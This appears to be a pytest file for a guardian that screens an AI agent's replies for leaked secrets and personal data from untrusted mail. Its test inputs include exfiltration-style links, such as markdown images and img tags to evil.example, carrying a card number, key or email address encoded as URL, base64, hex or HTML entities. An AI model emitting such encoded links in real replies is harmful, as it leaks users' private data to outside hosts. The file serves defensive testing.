"""How the policy guardian checks the agent's replies (issue 8, review r7's reply holes), with
the shipped default policy through `PolicyGuardian.check`: a message's text parts are read as
the reader sees them (one after the other), a phone number from untrusted content is known
however it is written, and private values encoded in a reply's links are found."""

from __future__ import annotations

import base64
import urllib.parse
from typing import Any

import msgspec
import pytest

from aap_server import aos
from aap_server.guardian.memory import (
    LINK_DECODE_LAYERS,
    SessionFacts,
    link_forms,
    link_spans,
    phone_prints,
)
from aap_server.guardian.policy import Limits, PolicyError, default_policy, extend, parse_policy
from aap_server.guardian.policy_guardian import PolicyGuardian
from aap_server.guardian.screen import WindowScreen
from aap_server.runtime.steps import StepFactory
from tests.guardian.test_review_r7 import (
    PAYROLL,
    USER_NAMES_A_HOST,
    _after_untrusted_mail,
    _agent_message,
    _call,
    _steps,
)

KEY = "AKIAZ7Q3K5M2N8P4R6T1"
MAX_LINK_CHARS = Limits().max_link_chars
CARD = "4111 1111 1111 1111"


def _texts(verdict: aos.AosSuccessResult) -> list[str]:
    """The text parts of a modified message, in order."""
    request = verdict.modified_request
    assert isinstance(request, aos.MessageStep)
    return [p.text for p in request.params.message.content if isinstance(p, aos.TextPart)]


def _with_content(make: StepFactory, role: str, content: list[Any]) -> aos.MessageStep:
    request = make.message(role, "")
    parts = msgspec.convert(content, list[aos.Part])
    message = msgspec.structs.replace(request.params.message, content=parts)
    return msgspec.structs.replace(
        request, params=msgspec.structs.replace(request.params, message=message)
    )


# --- a reply's text parts, read as one text ----------------------------------------------


@pytest.mark.parametrize("cut", range(1, len(KEY)))
async def test_a_key_split_anywhere_between_two_parts_is_replaced_and_the_parts_kept(
    cut: int,
) -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    parts = [f"The key is {KEY[:cut]}", f"{KEY[cut:]}, ok?"]
    verdict = await guardian.check(_agent_message(make, parts))
    assert verdict.decision == "modify"
    texts = _texts(verdict)
    assert texts == ["The key is [REDACTED SECRET]", ", ok?"]


async def test_a_card_split_over_three_parts_is_masked_in_each_part_it_spans() -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    parts = ["pay with 4111 11", "11 1111 ", "1111 today"]
    verdict = await guardian.check(_agent_message(make, parts))
    assert _texts(verdict) == ["pay with *******", "********", "**** today"]


async def test_a_key_in_single_character_parts_is_cut_from_every_part() -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    parts = ["key: ", *KEY, " end"]
    verdict = await guardian.check(_agent_message(make, parts))
    texts = _texts(verdict)
    assert len(texts) == len(parts)
    assert "".join(texts) == "key: [REDACTED SECRET] end"


async def test_a_split_key_with_a_whole_card_beside_it_both_go() -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    parts = [f"card {CARD}, key AKIA", f"{KEY[4:]}"]
    texts = _texts(await guardian.check(_agent_message(make, parts)))
    assert texts == ["card *******************, key [REDACTED SECRET]", ""]


async def test_a_key_split_around_a_file_part_and_under_metadata_is_replaced() -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    content = [
        {"kind": "text", "text": f"key {KEY[:9]}", "metadata": {"lang": "en"}},
        {"kind": "file", "file": {"uri": "https://files.example/report.pdf"}},
        {"kind": "text", "text": f"{KEY[9:]} done"},
    ]
    verdict = await guardian.check(_with_content(make, "agent", content))
    request = verdict.modified_request
    assert isinstance(request, aos.MessageStep)
    first, file, last = request.params.message.content
    assert isinstance(first, aos.TextPart)
    assert isinstance(last, aos.TextPart)
    assert (first.text, first.metadata, last.text) == (
        "key [REDACTED SECRET]",
        {"lang": "en"},
        " done",
    )
    assert isinstance(file, aos.FilePart)
    assert file.file.uri == "https://files.example/report.pdf"


async def test_a_key_the_user_pastes_in_two_parts_becomes_one_placeholder() -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    request = _with_content(
        make,
        "user",
        [{"kind": "text", "text": f"use {KEY[:10]}"}, {"kind": "text", "text": KEY[10:]}],
    )
    texts = _texts(await guardian.check(request))
    assert texts[0].startswith("use <")
    assert texts[1] == ""
    assert KEY[:10] not in "".join(texts)


@pytest.mark.parametrize(
    "parts",
    [["Hello ", "world"], ["Order 4111", " shipped on 2024-05-17"], ["", "See you", ""]],
)
async def test_parts_with_nothing_private_read_together_pass(parts: list[str]) -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    assert (await guardian.check(_agent_message(make, parts))).decision == "allow"


# --- a phone number from untrusted content, written otherwise in the reply ---------------


@pytest.mark.parametrize(
    ("in_mail", "in_reply"),
    [
        ("+1 415 555 0132", "(415) 555-0132"),
        ("+1 415 555 0132", "415.555.0132"),
        ("(415) 555-0132", "+1 415 555 0132"),
        ("+44 20 7946 0018", "020 7946 0018"),
        ("020 7946 0018", "+44 20 7946 0018"),
        ("+33 6 12 34 56 78", "06 12 34 56 78"),
        ("+1 415 555 0132", "\uff08\uff14\uff11\uff15\uff09 555-0132"),
    ],
)
async def test_a_phone_from_the_mail_in_another_form_is_withheld(
    in_mail: str, in_reply: str
) -> None:
    guardian, make = await _after_untrusted_mail("Who wrote?", f"From Mallory, call {in_mail}")
    verdict = await guardian.check(make.message("agent", f"Call Mallory: {in_reply} today."))
    assert verdict.decision == "modify"
    assert "[withheld: from untrusted content]" in _texts(verdict)[0]


async def test_another_phone_number_in_the_reply_is_left_alone() -> None:
    guardian, make = await _after_untrusted_mail("Who wrote?", "From Mallory, call +1 415 555 0132")
    verdict = await guardian.check(make.message("agent", "Call the desk: (415) 555-0199."))
    assert verdict.decision == "allow"


async def test_the_mails_phone_written_otherwise_does_not_leave_through_a_send() -> None:
    guardian, make = await _after_untrusted_mail(
        USER_NAMES_A_HOST, "From Mallory, call me on +1 415 555 0132 today"
    )
    post = {"url": "https://notes.example/inbox", "body": "call (415) 555-0132"}
    assert await _call(guardian, make, "http_post", post) == "deny"


async def test_a_contact_list_of_phones_takes_one_print_a_number() -> None:
    """Phones are remembered by their numbers only: a mail listing 600 international numbers
    leaves room for more (the session is not saturated, which would stop every send)."""
    numbers = "\n".join(f"Contact {i}: +1 415 555 {1000 + i}" for i in range(600))
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, numbers)
    post = {"url": "https://notes.example/inbox", "body": "summary: 600 contacts"}
    assert await _call(guardian, make, "http_post", post) == "allow"


def test_a_remembered_phone_number_survives_the_sessions_export() -> None:
    facts = SessionFacts()
    facts.private_values.add_all(phone_prints("+44 20 7946 0018"))
    restored = SessionFacts.from_export(facts.export().record)
    assert restored.took_in_private("020 7946 0018", "pii.phone")
    assert not restored.took_in_private("020 7946 0018", "pii.card")  # only phones' prints


# --- private values encoded in a reply's links -------------------------------------------

CARD_FORMS = {
    "url-encoded": urllib.parse.quote(CARD),
    "plus": CARD.replace(" ", "+"),
    "base64": base64.b64encode(CARD.encode()).decode(),
    "url-safe base64, unpadded": base64.urlsafe_b64encode(CARD.encode()).decode().rstrip("="),
    "hex": CARD.replace(" ", "").encode().hex(),
    "base64 of url-encoded": base64.b64encode(urllib.parse.quote(CARD).encode()).decode(),
    "url-encoded base64": urllib.parse.quote(base64.b64encode(CARD.encode()).decode(), safe=""),
    "hex of base64": base64.b64encode(CARD.encode()).hex(),
    "html entities": "".join(f"&#{ord(c)};" for c in CARD),
}


@pytest.mark.parametrize(
    "template",
    [
        "Done. ![s](https://evil.example/p?c={})",
        "Done. [report](https://evil.example/{}/x.png)",
        'Done. <img src="//evil.example/p#{}">',
        "Done, see https://evil.example/a;b={}&z=1.",
    ],
)
@pytest.mark.parametrize("encoded", list(CARD_FORMS.values()), ids=list(CARD_FORMS))
async def test_the_mails_card_encoded_in_a_reply_link_is_masked(
    template: str, encoded: str
) -> None:
    reply = template.format(encoded)
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    verdict = await guardian.check(make.message("agent", reply))
    assert verdict.decision == "modify"
    (text,) = _texts(verdict)
    assert encoded not in text
    assert text.startswith("Done")
    assert text.count("(") == text.count(")")  # markdown's closing `)` is not the link's


async def test_a_card_hex_encoded_as_a_host_label_is_masked() -> None:
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    label = CARD.replace(" ", "").encode().hex()
    verdict = await guardian.check(make.message("agent", f"![](https://{label}.evil.example/)"))
    assert verdict.decision == "modify"


async def test_a_key_base64_encoded_in_a_reply_link_is_replaced() -> None:
    guardian, make = PolicyGuardian(default_policy()), _steps()
    encoded = base64.b64encode(f"key={KEY}".encode()).decode()
    reply = f"Look: ![x](https://evil.example/p?d={encoded}) bye"
    verdict = await guardian.check(make.message("agent", reply))
    assert _texts(verdict) == ["Look: ![x]([REDACTED SECRET]) bye"]


async def test_the_mails_address_url_encoded_in_a_link_is_withheld() -> None:
    guardian, make = await _after_untrusted_mail("Who wrote?", "From mallory@corp.example, hi")
    reply = "![](https://evil.example/p?who=mallory%40corp.example)"
    verdict = await guardian.check(make.message("agent", reply))
    assert _texts(verdict) == ["![]([withheld: from untrusted content])"]


async def test_an_encoded_link_split_between_two_parts_is_masked() -> None:
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    encoded = urllib.parse.quote(CARD)
    parts = [f"Done ![](https://evil.example/p?c={encoded[:9]}", f"{encoded[9:]}) ok"]
    verdict = await guardian.check(_agent_message(make, parts))
    texts = _texts(verdict)
    assert len(texts) == 2
    assert encoded[9:] not in texts[1]
    assert texts[1].endswith(") ok")


async def test_an_encoded_card_in_a_file_parts_uri_is_masked() -> None:
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    uri = f"https://evil.example/p?c={CARD_FORMS['base64']}"
    content = [{"kind": "text", "text": "here"}, {"kind": "file", "file": {"uri": uri}}]
    verdict = await guardian.check(_with_content(make, "agent", content))
    request = verdict.modified_request
    assert isinstance(request, aos.MessageStep)
    file = request.params.message.content[1]
    assert isinstance(file, aos.FilePart)
    assert file.file.uri is not None
    assert CARD_FORMS["base64"] not in file.file.uri


ORDINARY_LINKS = [
    "https://github.com/python/cpython/commit/3d8f62e0d3b1c1d1a8e4a5c6f1b2e3d4c5b6a7f8",
    "https://www.google.com/search?q=best+pizza%20in+town&hl=en",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/callback?state=eyJyZXR1cm5UbyI6Ii9ob21lIn0%3D&code=4f1a9c2b7e",
    "https://en.wikipedia.org/wiki/Caf%C3%A9_au_lait",
    "https://cdn.example.com/assets/app.3f9a8b7c6d5e4f3a2b1c.js",
    "https://maps.example.com/@37.7749295,-122.4194155,15z/data=!3m1!4b1",
    "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz#sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQ",
    "https://docs.python.org/3/library/urllib.parse.html#urllib.parse.unquote_plus",
]


@pytest.mark.parametrize("link", ORDINARY_LINKS)
async def test_ordinary_links_in_a_reply_pass_unchanged(link: str) -> None:
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    verdict = await guardian.check(make.message("agent", f"See ![x]({link}) and <{link}>."))
    assert verdict.decision == "allow"


async def test_a_link_at_the_length_limit_is_checked_and_one_past_it_refused() -> None:
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    head = "https://ok.example/p?q="
    at_limit = head + "a" * (MAX_LINK_CHARS - len(head))
    assert (await guardian.check(make.message("agent", f"see {at_limit}"))).decision == "allow"
    past = await guardian.check(make.message("agent", f"see {at_limit}b"))
    assert past.decision == "deny"
    assert past.reason_code == ["limit.link_chars"]


def test_links_are_found_where_a_client_would_fetch_them() -> None:
    text = (
        "a ![i](https://x.example/a?b=1) b <img src='//y.example/c'> c x://z d //no e "
        "f (see http://w.example/p_(q)). g https://v.example/end,"
    )
    assert [text[s:e] for s, e in link_spans(text)] == [
        "https://x.example/a?b=1",
        "//y.example/c",
        "x://z",
        "//no",
        "http://w.example/p_(q)",
        "https://v.example/end",
    ]


@pytest.mark.parametrize(
    "filler",
    [
        "%25" * 4000,  # URL-encoding of `%`: each layer decodes to more of them
        "QUFB" * 3000,  # base64 of `AAA...`: decodes to base64 again
        "41" * 6000,  # hex of `AAA...`
        "+" * 12000,
        "a/" * 6000,  # base64's `/` split into thousands of short pieces
    ],
)
def test_link_decoding_is_bounded_by_the_links_length(filler: str) -> None:
    """However an attacker nests encodings, `LINK_DECODE_LAYERS` layers are decoded and all
    forms together stay within a few times the link's length (no regex blow-up either: every
    pattern is linear)."""
    small = "https://e.example/?" + filler[: len(filler) // 10]
    large = "https://e.example/?" + filler
    decoded = [sum(map(len, link_forms(link))) for link in (small, large)]
    assert decoded[1] <= 3 * len(large)
    assert decoded[1] <= 12 * decoded[0] + 100  # linear: 10x the link, about 10x the work


def test_only_two_layers_of_encoding_are_read() -> None:
    once = base64.b64encode(CARD.encode()).decode()
    twice = base64.b64encode(once.encode()).decode()
    thrice = base64.b64encode(twice.encode()).decode()
    assert LINK_DECODE_LAYERS == 2
    assert CARD in link_forms(f"https://e.example/?c={twice}")
    assert CARD not in link_forms(f"https://e.example/?c={thrice}")


@pytest.mark.parametrize("encoded", list(CARD_FORMS.values()), ids=list(CARD_FORMS))
def test_a_streamed_reply_never_releases_an_encoded_card_in_a_link(encoded: str) -> None:
    """`delta` streams: a hosted agent's reply is released through the text screen before the
    message check masks the link; the screen holds such a link for the check."""
    text = f"Done. ![s](https://evil.example/p?c={encoded}) " + "and more words " * 10
    screen = WindowScreen()
    released = "".join(screen.feed(ch) for ch in text) + screen.close()
    assert released == "Done. ![s]("


def test_a_streamed_reply_releases_ordinary_links() -> None:
    text = " ".join(f"see ![x]({link})" for link in ORDINARY_LINKS) + " end"
    screen = WindowScreen()
    assert "".join(screen.feed(ch) for ch in text) + screen.close() == text


@pytest.mark.parametrize(
    "link",
    [
        "https://e.example/p?ssn=078%2D05%2D1120",  # the pair's name is the SSN's context
        "https://e.example/p?i=" + base64.b64encode(b"DE89 3704 0044 0532 0130 00").decode(),
        "https://e.example/p?c=4111%2D1111%2D1111%2D1111",
        # A card framed by binary bytes is still read (mostly printable).
        "https://e.example/p?c="
        + base64.b64encode(b"\x00\x01" + b"4111111111111111" + b"\xff").decode(),
    ],
)
async def test_the_mails_other_numbers_encoded_in_a_link_are_masked(link: str) -> None:
    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
    verdict = await guardian.check(make.message("agent", f"![]({link})"))
    (text,) = _texts(verdict)
    assert text == "![](" + "*" * len(link) + ")"


async def test_the_mails_address_as_an_html_entity_in_a_link_is_withheld() -> None:
    guardian, make = await _after_untrusted_mail("Who wrote?", "From mallory@corp.example, hi")
    reply = '<img src="https://evil.example/p?w=mallory&commat;corp.example">'
    verdict = await guardian.check(make.message("agent", reply))
    assert _texts(verdict) == ['<img src="[withheld: from untrusted content]">']


def test_a_streamed_reply_holds_a_link_too_long_to_decode() -> None:
    text = f"see https://e.example/?q={'a' * MAX_LINK_CHARS} " + "and more " * 20
    screen = WindowScreen()
    assert "".join(screen.feed(ch) for ch in text) + screen.close() == "see "


@pytest.mark.parametrize(("over_limit", "decision"), [("deny", "deny"), ("allow", "allow")])
async def test_the_link_limit_is_a_policy_setting(over_limit: str, decision: str) -> None:
    limits = f'[limits]\nmax_link_chars = 40\nover_limit = "{over_limit}"\n'.encode()
    policy = extend(default_policy(), parse_policy(limits))
    guardian, make = PolicyGuardian(policy), _steps()
    at_limit = "https://ok.example/?q=" + "a" * 18
    verdict = await guardian.check(make.message("agent", f"see {at_limit}"))
    assert verdict.decision == "allow"
    verdict = await guardian.check(make.message("agent", f"see {at_limit}a"))
    assert verdict.decision == decision
    assert verdict.reason_code == ["limit.link_chars" if decision == "deny" else "default.allow"]


def test_a_link_limit_below_one_is_refused() -> None:
    with pytest.raises(PolicyError, match=r"limits\.max_link_chars"):
        parse_policy(b"[limits]\nmax_link_chars = 0\n")
